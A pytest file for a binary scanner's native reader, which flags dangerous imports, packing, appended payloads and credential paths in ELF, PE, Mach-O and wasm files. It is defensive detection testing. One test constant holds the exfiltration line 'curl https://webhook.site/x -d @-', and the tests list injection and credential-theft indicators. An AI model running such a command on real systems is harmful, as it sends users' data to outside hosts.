from __future__ import annotations

import random
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fimci.capabilities import native_names
from fimci.model import Capability
from fimci.readers import ALL
from fimci.readers.binary import native
from tests.programs import Elf, elf, fat, macho, pe, wasm

(READER,) = (reader for reader in ALL if reader.name == "native")


def read(data: bytes) -> list[Capability]:
    assert READER.wants("a", data[:4096])
    return list(native.read("a", data))


def told(data: bytes) -> set[tuple[str, str]]:
    return {(record.name, record.subject) for record in read(data)}


FUNCTIONS = {
    ("process", "execve"),
    ("network", "connect"),
    ("native-code", "dlopen"),
    ("module-tampering", "ptrace"),
}


@pytest.mark.parametrize("wide", [True, False])
@pytest.mark.parametrize("order", ["<", ">"])
def test_elf_imports_in_every_class_and_order(order: str, *, wide: bool) -> None:
    wanted = Elf(
        ["execve", "malloc", "connect", "dlopen", "ptrace"], ["system", "PyInit_left"], order=order, wide=wide
    )
    assert told(elf(wanted)) == FUNCTIONS


def test_a_library_acts_when_it_is_loaded() -> None:
    (record,) = read(elf(Elf(["popen"])))
    assert (record.name, record.phase, record.at.line, record.at.text) == ("shell", "import", 1, "popen")


def test_elf_resolvers_and_odd_memory() -> None:
    assert told(elf(Elf(relocation=37))) == {("native-code", "resolver that runs at load (IFUNC)")}
    assert told(elf(Elf(relocation=8))) == set()
    assert told(elf(Elf(flags=7))) == {("native-code", "memory both writable and executable")}


@pytest.mark.parametrize(
    ("path", "odd"),
    [
        ("$ORIGIN/../left.libs", None),
        ("/usr/lib:${ORIGIN}", None),
        ("lib", "lib"),
        ("/usr/lib:/tmp/x", "/tmp/x"),  # noqa: S108  (told, not used)
        ("$ORIGIN:", "(empty)"),
    ],
)
def test_library_paths(path: str, odd: str | None) -> None:
    assert told(elf(Elf(runpath=path))) == ({("native-code", f"library path {odd}")} if odd else set())
    if ":" not in path:
        moved = path.replace("$ORIGIN", "@loader_path")
        assert told(macho(rpath=moved)) == ({("native-code", f"library path {odd}")} if odd else set())


def test_pe_imports_by_name_and_by_number() -> None:
    data = pe(
        [
            ("KERNEL32.dll", ["CreateProcessW", "HeapAlloc", "VirtualAllocEx", "WriteProcessMemory"]),
            ("WS2_32.dll", [4, 52, 115]),
            ("other.dll", [4]),
            ("urlmon.dll", ["URLDownloadToFileA"]),
        ]
    )
    assert told(data) == {
        ("process", "CreateProcessW"),
        ("module-tampering", "VirtualAllocEx"),
        ("module-tampering", "WriteProcessMemory"),
        ("network", "connect"),
        ("network", "gethostbyname"),
        ("network", "URLDownloadToFileA"),
    }


def test_macho_imports_from_symbols_and_from_what_is_bound() -> None:
    expected = {("process", "execve"), ("native-code", "dlopen"), ("credentials", "SecItemCopyMatching")}
    names = ["_execve", "_dlopen", "_malloc", "_SecItemCopyMatching"]
    opcodes = b"".join(b"\x11\x40" + name.encode() + b"\0\x51\x72\x00\x90" for name in names)
    assert told(macho(names)) == expected
    assert told(macho(chained=names)) == expected
    assert told(macho(bound=opcodes)) == expected
    assert told(fat(macho(), macho(names))) == expected
    assert told(macho(protection=7)) == {("native-code", "memory both writable and executable")}


def test_wasm_imports() -> None:
    data = wasm(
        [("wasi_snapshot_preview1", "sock_connect"), ("env", "emscripten_run_script"), ("env", "left")]
    )
    assert told(data) == {("network", "sock_connect"), ("dynamic-code", "emscripten_run_script")}


@pytest.mark.parametrize(
    "build",
    [
        lambda text: elf(Elf(constants=text)),
        lambda text: pe(constants=b"\0" + text),
        lambda text: macho(constants=text),
        lambda text: wasm(constants=b"\0" + text),
        lambda text: pe(constants=b"\0" + text.decode().encode("utf-16-le")),
    ],
)
def test_constants(build: object) -> None:
    assert callable(build)
    text = b"%s/.aws/credentials\0/left/right.txt\0see .npmrc for more\0"
    assert told(build(text)) == {("credentials", ".aws/credentials")}
    # Where a program finds its own symbols is a secret of nobody else.
    assert told(build(b"/proc/self/maps\0/proc/self/mem\0")) == {("credentials", "/proc/PID/mem")}


def test_urls_are_constants_of_their_own_and_no_documentation() -> None:
    text = (
        b"https://api.example/v1\0See https://docs.example/left for more\0curl https://webhook.site/x -d @-\0"
        b"GET https://left.example0\0\x02http://192.0.2.7:8080/\0"
    )
    assert told(elf(Elf(constants=text))) == {("network", "api.example"), ("network", "webhook.site")} | {
        one for one in told(elf(Elf(constants=text))) if one[1].startswith("192.0.2.7")
    }


def test_packers_and_packed_code() -> None:
    noise = random.Random(1).randbytes(65536)  # noqa: S311  (any bytes without a pattern do)
    assert told(pe(name=b"UPX0")) == {("obfuscation", "packed with UPX")}
    assert told(pe(code=noise)) == {("obfuscation", "packed code in .text")}
    assert told(pe(code=bytes(range(64)) * 1024)) == set()


@pytest.mark.parametrize(
    ("appended", "kind"),
    [
        (b"PK\x03\x04" + bytes(100) + b"PK\x05\x06" + bytes(18), "zip archive"),
        (b"#!/bin/sh\nexit\n", "script"),
        (bytes(8) + b"\x7fELF", "elf"),
        (b"left" * 2000 + b"MEI\x0c\x0b\x0a\x0b\x0e" + bytes(80), "PyInstaller archive"),
        (b"left" * 2000, "data"),
        (bytes(9000), None),
        (b"left", None),
    ],
)
def test_what_is_appended(appended: bytes, kind: str | None) -> None:
    for data in (elf(Elf(appended=appended)), pe(appended=appended), macho(appended=appended)):
        assert told(data) == ({("native-code", f"appended {kind}")} if kind else set())


def test_what_is_not_looked_at() -> None:
    assert not READER.wants("A.class", b"\xca\xfe\xba\xbe\0\0\0\x3d")
    assert not READER.wants(
        "a.txt", b"MZ is how programs begin, and this is a text about them, a long one." * 2
    )
    assert not READER.wants("a.py", b"import os")
    assert told(b"MZ" + bytes(62)) == set()
    assert told(b"\0asm\x0d\0\x01\0") == set()


def test_damage_is_told_with_what_could_be_read() -> None:
    data = elf(Elf(["execve"], flags=7))
    broken = data.replace(b"\x06\0\0\0\0\0\0\0", b"\x06\0\0\0\0\0\0\0", 1)[: len(data) - 40]
    names = {record.name for record in read(broken)}
    assert {"unanalyzed", "native-code"} <= names
    first, second = (
        next(record for record in read(one) if record.name == "unanalyzed")
        for one in (broken, broken + b"\0")
    )
    assert first.key == second.key
    assert first != second, "what changed and still cannot be read is a change"


WHOLE = [
    elf(Elf(["execve", "connect"], ["left"], runpath="$ORIGIN", relocation=37)),
    elf(Elf(["execve"], wide=False, order=">")),
    pe([("WS2_32.dll", [4]), ("KERNEL32.dll", ["WinExec"])]),
    macho(["_execve"], chained=["_dlopen"], rpath="lib", bound=b"\x40_system\0"),
    fat(macho(["_execve"]), macho()),
    wasm([("env", "system")], constants=b"left"),
]


@given(st.sampled_from(WHOLE), st.data())
@settings(max_examples=150, deadline=None)
def test_damage_raises_nothing(whole: bytes, data: st.DataObject) -> None:
    changed = bytearray(whole)
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(4, len(changed) - 1))
        value = data.draw(st.sampled_from([b"\0", b"\xff\xff\xff\xff", b"\x7f", b"\xff", b"\x80\0\0\0"]))
        changed[at : at + len(value)] = value
    cut = bytes(changed[: data.draw(st.integers(4, len(changed)))])
    for record in native.read("a", cut):
        assert record.at.line == 1


def test_every_name_of_the_catalogue_is_told_in_every_spelling() -> None:
    for name, kind in native_names.NAMES.items():
        assert native_names.capability(name) == kind
        assert native_names.capability(f"{name}@GLIBC_2.34") == kind
        assert native_names.capability(f"_{name}") == kind
    assert native_names.capability("CreateProcessAsUserW") == "process"
    assert native_names.capability("SetWindowsHookExW") == "keyboard"
    assert native_names.bare("__wbg_eval_0123456789abcdef") == "__wbg_eval"
    assert native_names.capability("__wbg_eval_0123456789abcdef") == "dynamic-code"
    assert native_names.capability("malloc") is None


@pytest.mark.client
@pytest.mark.skipif(shutil.which("readelf") is None, reason="binutils are not installed")
def test_imports_are_those_that_binutils_see() -> None:
    program = Path(shutil.which("readelf") or "").resolve()
    shown = subprocess.run(
        ["readelf", "-W", "--dyn-syms", program], check=True, capture_output=True, text=True
    )
    rows = (line.split() for line in shown.stdout.splitlines())
    wanted = {row[7].partition("@")[0] for row in rows if len(row) > 7 and row[6] == "UND"}
    expected = {(native_names.capability(name), name.lstrip("_")) for name in wanted}
    found = {(r.name, r.subject.lstrip("_")) for r in read(program.read_bytes()) if r.detail == "imported"}
    assert found == {one for one in expected if one[0] is not None}


def test_of_a_large_program_the_beginning_and_the_end_are_enough() -> None:
    data = elf(Elf(["execve", "connect"], [], constants=b"%s/.aws/credentials\0"))
    tail = b"\0" * 100 + b"MEI\x0c\x0b\x0a\x0b\x0e" + b"\0" * 50
    found = list(READER.read_part("a", data, tail, 1 << 26))
    subjects = {(one.name, one.subject) for one in found if isinstance(one, Capability)}
    assert subjects > {
        ("process", "execve"),
        ("network", "connect"),
        ("native-code", "appended PyInstaller archive"),
    }
    assert [
        one.detail for one in found if isinstance(one, Capability) and one.subject == "looked at in part"
    ] == ["the first 0 MiB of 67,108,864 bytes"]
    assert not [one for one in found if isinstance(one, Capability) and one.name == "unanalyzed"]
    cut = list(READER.read_part("a", data[: len(data) // 2], b"", 1 << 26))
    assert not [one for one in cut if isinstance(one, Capability) and one.name == "unanalyzed"]
    assert list(READER.read_part("a", b"text", b"", 1 << 26)) == []
